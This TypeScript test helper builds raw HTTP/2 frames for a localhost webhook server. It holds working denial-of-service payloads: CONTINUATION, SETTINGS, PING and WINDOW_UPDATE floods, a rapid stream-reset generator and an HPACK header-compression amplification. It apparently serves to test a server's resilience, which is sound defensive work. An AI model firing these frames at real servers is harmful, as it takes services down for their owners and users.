/** HTTP/2 frames by hand: no client sends what attackers do. https://httpwg.org/specs/rfc9113.html#FrameHeader */

export const preface = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");

export const flags = { endStream: 1, ack: 1, endHeaders: 4 } as const;

const types = {
  data: 0,
  headers: 1,
  reset: 3,
  settings: 4,
  ping: 6,
  windowUpdate: 8,
  continuation: 9,
} as const;

export function frame(
  type: keyof typeof types,
  stream: number,
  flagBits = 0,
  payload: Uint8Array = Buffer.alloc(0),
): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = types[type];
  head[4] = flagBits;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** A header without indexing, in plain text. https://httpwg.org/specs/rfc7541.html#literal.header.without.indexing */
export function field(name: string, value: string): Buffer {
  const text = (part: string) => Buffer.concat([Buffer.from([part.length]), Buffer.from(part)]);
  return Buffer.concat([Buffer.from([0]), text(name), text(value)]);
}

export const post = Buffer.concat([
  field(":method", "POST"),
  field(":path", "/webhook/demo"),
  field(":scheme", "http"),
  field(":authority", "localhost"),
  field("content-type", "application/json"),
  field("x-svc-ops-signature", "0".repeat(40)),
]);

export const int32 = (value: number): Buffer => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};

/** Frames that are sent repeatedly until the connection is closed, and what is sent before them. */
export const floods: Readonly<Record<string, { readonly before?: Buffer; readonly again: Buffer }>> = {
  "empty parts of a body": {
    before: frame("headers", 1, flags.endHeaders, post),
    again: frame("data", 1),
  },
  "headers without end": {
    before: frame("headers", 1, 0, post),
    again: frame("continuation", 1, 0, field("x-a", "b".repeat(100))),
  },
  "settings whose receipt is not read": {
    again: frame("settings", 0, 0, Buffer.concat([Buffer.from([0, 4]), int32(65_535)])),
  },
  "pings whose answers are not read": { again: frame("ping", 0, 0, Buffer.alloc(8)) },
  "windows beyond the largest": { again: frame("windowUpdate", 0, 0, int32(0x7fffffff)) },
  "frames of a stream that was never opened": { again: frame("data", 99, 0, Buffer.from("x")) },
};

/** Streams that are opened and reset, from this id on. */
export function resets(from: number, count: number): Buffer {
  const frames: Buffer[] = [];
  for (let i = 0; i < count; i++) {
    const id = from + 2 * i;
    frames.push(frame("headers", id, flags.endHeaders, post), frame("reset", id, 0, int32(8)));
  }
  return Buffer.concat(frames);
}

/**
 * A header of 3,900 bytes that is added to the dynamic table.
 * https://httpwg.org/specs/rfc7541.html#literal.header.with.incremental.indexing
 */
const stored = Buffer.concat([
  Buffer.from([0x40, 3]),
  Buffer.from("x-a"),
  // 3,900 in seven bits at a time.
  Buffer.from([127, 0xbd, 0x1d]),
  Buffer.alloc(3_900, "a"),
]);

/** Heads of one byte for each 3,900: the newest entry of the dynamic table again and again. */
export function compressedHeads(count: number): Buffer {
  const again = Buffer.concat([post, Buffer.alloc(15_000, 0x80 | 62)]);
  const ends = flags.endHeaders | flags.endStream;
  const heads = Array.from({ length: count }, (_, i) => frame("headers", 3 + 2 * i, ends, again));
  return Buffer.concat([frame("headers", 1, ends, Buffer.concat([post, stored])), ...heads]);
}

/** Returns the numbers of the streams that are reset in these bytes, which begin with a frame. */
export function resetStreams(bytes: Buffer): number[] {
  const reset: number[] = [];
  for (let at = 0; at + 9 <= bytes.length; at += 9 + bytes.readUIntBE(at, 3))
    if (bytes[at + 3] === types.reset) reset.push(bytes.readUInt32BE(at + 5));
  return reset;
}
